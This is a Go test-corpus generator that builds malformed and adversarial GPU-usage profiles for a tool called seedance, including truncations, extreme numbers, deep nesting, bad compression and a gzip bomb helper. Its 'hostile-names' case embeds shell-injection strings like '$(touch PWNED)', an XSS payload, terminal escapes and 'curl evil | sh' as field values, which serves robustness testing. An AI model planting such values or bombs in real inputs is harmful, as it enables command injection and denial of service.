// Package hostile makes the hostile-input corpus of seedance's tests:
// profiles that are truncated, compressed in tricky ways, numerically
// extreme, inconsistent, duplicated, deeply nested, oversized or full of
// hostile names. The corpus lives in cmd/testdata/hostile (small files, gzip
// where they would be large); a test keeps it in step with this generator
// (go test ./cmd -run HostileCorpus -update rewrites it), and another runs
// every file through every command that reads profiles.
package hostile

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"strings"

	"github.com/klauspost/compress/zstd"
)

// Case is one file of the corpus. Valid says whether seedance must accept
// it (the rest must be refused with one line).
type Case struct {
	Name  string
	Data  []byte
	Valid bool
}

// base is a small valid profile: two nodes, one idle, with a pending pod
// and a topology, so that every command has something to do.
const base = `{"schema_version":"seedance.profile/v1","generator":{"name":"hostile"},"source":"sim",` +
	`"started_at":"2026-01-05T09:00:00Z","ended_at":"2026-01-05T09:03:00Z","interval_s":60,"complete":true,"nodes":[` +
	`{"name":"node-a","labels":{"pool":"h100"},"workloads":[{"id":"ml/train-0","name":"train-0","kind":"pod","state":"running","gpus":[0],"gpu_count":1,"cpus_allowed":"0-3","labels":{"namespace":"ml"}}],` +
	`"topology":{"gpus":[{"index":0,"numa_node":0,"cpu_affinity":"0-7"},{"index":1,"numa_node":0,"cpu_affinity":"0-7"}],"matrix":[["X","NV18"],["NV18","X"]],"nvlink_gbps":[[0,450],[450,0]],"host":{"sockets":1,"numa_nodes":[{"id":0,"cpus":"0-7"}]}},` +
	`"gpus":[{"index":0,"uuid":"GPU-a0","model":"NVIDIA H100 80GB HBM3","memory_total_bytes":85899345920,"mig":null,"series":{"t":[0,60,120],"gpu_util_pct":[90,95,88],"power_w":[600,610,590]}},` +
	`{"index":1,"uuid":"GPU-a1","model":"NVIDIA H100 80GB HBM3","memory_total_bytes":85899345920,"mig":null,"series":{"t":[0,60,120],"gpu_util_pct":[0,0,0],"power_w":[70,70,70]}}]},` +
	`{"name":"node-b","workloads":[{"id":"ml/infer-1","name":"infer-1","kind":"pod","state":"pending","gpu_count":1,"labels":{"namespace":"ml"}}],` +
	`"gpus":[{"index":0,"uuid":"GPU-b0","model":"NVIDIA H100 80GB HBM3","memory_total_bytes":85899345920,"mig":null,"series":{"t":[0,60,120],"gpu_util_pct":[0,0,0],"power_w":[70,70,70]}}]}]}`

// Base returns the valid profile the corpus is made from.
func Base() []byte { return []byte(base) }

func gz(b []byte) []byte {
	var out bytes.Buffer
	w, _ := gzip.NewWriterLevel(&out, gzip.BestCompression)
	if _, err := w.Write(b); err != nil {
		panic(err) // writing to memory does not fail
	}
	w.Close()
	return out.Bytes()
}

func zst(b []byte) []byte {
	w, _ := zstd.NewWriter(nil)
	return w.EncodeAll(b, nil)
}

func replace(old, repl string) []byte {
	if !strings.Contains(base, old) {
		panic("hostile: base lacks " + old)
	}
	return []byte(strings.Replace(base, old, repl, 1))
}

// Cases returns the corpus, deterministically.
func Cases() []Case {
	cs := []Case{
		{"valid.json", Base(), true},
		{"valid.json.gz", gz(Base()), true},
		{"hostile-names.json", []byte(strings.NewReplacer(
			`"node-a"`, `"node-a;touch PWNED <img src=x onerror=alert(1)> | col \u001b[31m"`,
			`"ml/train-0"`, `"ml/$(touch PWNED)\u202e\u0000"`,
			`"NVIDIA H100 80GB HBM3"`, "\"H100 `x` [link](http://evil) *b* _i_ \\r\\n$ curl evil | sh\"").Replace(base)), true},
		{"empty.json", nil, false},
		{"null.json", []byte("null"), false},
		{"array.json", []byte("[]"), false},
		{"object.json", []byte("{}"), false},
		{"trailing-nul.json", append(Base(), 0, 0, 0), false},
		{"trailing-garbage.json", append(Base(), []byte(`{"x":1}`)...), false},
		{"nan.json", replace(`[90,95,88]`, `[90,NaN,88]`), false},
		{"huge-number.json", replace(`[90,95,88]`, `[90,1e400,88]`), false},
		{"huge-util.json", replace(`[90,95,88]`, `[90,1e308,88]`), false},
		{"huge-power.json", replace(`[600,610,590]`, `[600,1.7e308,590]`), false},
		{"negative.json", replace(`[90,95,88]`, `[90,-1,88]`), false},
		{"mismatched-arrays.json", replace(`[90,95,88]`, `[90,95]`), false},
		{"t-not-ascending.json", replace(`"t":[0,60,120],"gpu_util_pct":[90`, `"t":[0,120,60],"gpu_util_pct":[90`), false},
		{"duplicate-node.json", replace(`{"name":"node-b"`, `{"name":"node-a"`), false},
		{"duplicate-uuid.json", replace(`"uuid":"GPU-a1"`, `"uuid":"GPU-a0"`), false},
		{"duplicate-key.json", replace(`"t":[0,60,120],"gpu_util_pct":[90`, `"t":[0,60,120],"t":[0,1,2],"gpu_util_pct":[90`), false},
		{"duplicate-workload.json", replace(`"workloads":[{"id":"ml/train-0"`, `"workloads":[{"id":"ml/train-0","kind":"pod"},{"id":"ml/train-0"`), false},
		{"deep-nesting.json.gz", gz(replace(`"complete":true`, `"complete":true,"x":`+strings.Repeat("[", 1_000_000)+strings.Repeat("]", 1_000_000))), false},
		{"giant-node-name.json.gz", gz(replace(`"node-a"`, `"`+strings.Repeat("n", 50<<20)+`"`)), false},
		{"long-node-name.json", replace(`"node-a"`, `"`+strings.Repeat("n", 300)+`"`), false},
		{"giant-label.json.gz", gz(replace(`"pool":"h100"`, `"pool":"`+strings.Repeat("x", 10<<20)+`"`)), false},
		{"ragged-topology.json", replace(`"matrix":[["X","NV18"],["NV18","X"]]`, `"matrix":[["X","NV18"],["NV18"]]`), false},
		{"short-matrix.json", replace(`"matrix":[["X","NV18"],["NV18","X"]]`, `"matrix":[["X"]]`), false},
		{"negative-bandwidth.json", replace(`"nvlink_gbps":[[0,450],[450,0]]`, `"nvlink_gbps":[[0,-450],[-450,0]]`), false},
		{"ragged-bandwidth.json", replace(`"nvlink_gbps":[[0,450],[450,0]]`, `"nvlink_gbps":[[0,450],[450]]`), false},
		{"year-9999.json", replace(`"ended_at":"2026-01-05T09:03:00Z"`, `"ended_at":"9999-12-31T23:59:59Z"`), false},
		{"year-1.json", replace(`"started_at":"2026-01-05T09:00:00Z"`, `"started_at":"0001-01-01T00:00:00Z"`), false},
		{"huge-cpu-list.json", replace(`"cpus_allowed":"0-3"`, `"cpus_allowed":"0-99999999"`), false},
		{"huge-cpu-affinity.json", replace(`"cpu_affinity":"0-7"}`, `"cpu_affinity":"0-2147483647"}`), false},
		{"tiny-interval.json", replace(`"interval_s":60`, `"interval_s":1e-300`), false},
		{"huge-gpu-index.json", replace(`"index":1,"uuid":"GPU-a1"`, `"index":2147483648,"uuid":"GPU-a1"`), false},
		{"huge-workload-gpu.json", replace(`"gpus":[0],"gpu_count":1`, `"gpus":[999999999],"gpu_count":1`), false},
		{"intervals-backwards.json", replace(`"gpus":[0],"gpu_count":1`, `"gpus":[0],"gpu_count":1,"intervals":[{"start_s":120,"end_s":180},{"start_s":0,"end_s":60}]`), false},
		{"intervals-outside.json", replace(`"gpus":[0],"gpu_count":1`, `"gpus":[0],"gpu_count":1,"intervals":[{"start_s":0,"end_s":1e308}]`), false},
		{"no-samples.json", replace(`"nodes":[`, `"nodes":[],"x":[`), false},
		{"gzip-truncated.json.gz", gz(Base())[:100], false},
		{"valid.json.zst", zst(Base()), true},
		{"zstd-truncated.json.zst", zst(Base())[:100], false},
		{"zstd-huge-window.json.zst", []byte{0x28, 0xb5, 0x2f, 0xfd, 0x00, 0xf8, 0, 0, 0}, false},
		{"deep-nesting.json.zst", zst(replace(`"complete":true`, `"complete":true,"x":`+strings.Repeat("[", 1_000_000)+strings.Repeat("]", 1_000_000))), false},
		{"gzip-not-gzip.json.gz", append([]byte{0x1f, 0x8b}, []byte("not gzip at all")...), false},
		{"gzip-twice.json.gz", gz(gz(Base())), false},
	}
	for _, cut := range []int{1, 50, 200, 600, 1000, len(base) - 1} {
		cs = append(cs, Case{fmt.Sprintf("truncated-%04d.json", cut), []byte(base[:cut]), false})
	}
	return cs
}

// Bomb returns a gzip of size bytes of white space before a valid profile:
// a few hundred KiB that inflate to size.
func Bomb(size int) []byte {
	var out bytes.Buffer
	w, _ := gzip.NewWriterLevel(&out, gzip.BestCompression)
	chunk := bytes.Repeat([]byte(" "), 1<<20)
	for n := 0; n < size; n += len(chunk) {
		if _, err := w.Write(chunk); err != nil {
			panic(err) // writing to memory does not fail
		}
	}
	if _, err := w.Write(Base()); err != nil {
		panic(err) // writing to memory does not fail
	}
	w.Close()
	return out.Bytes()
}
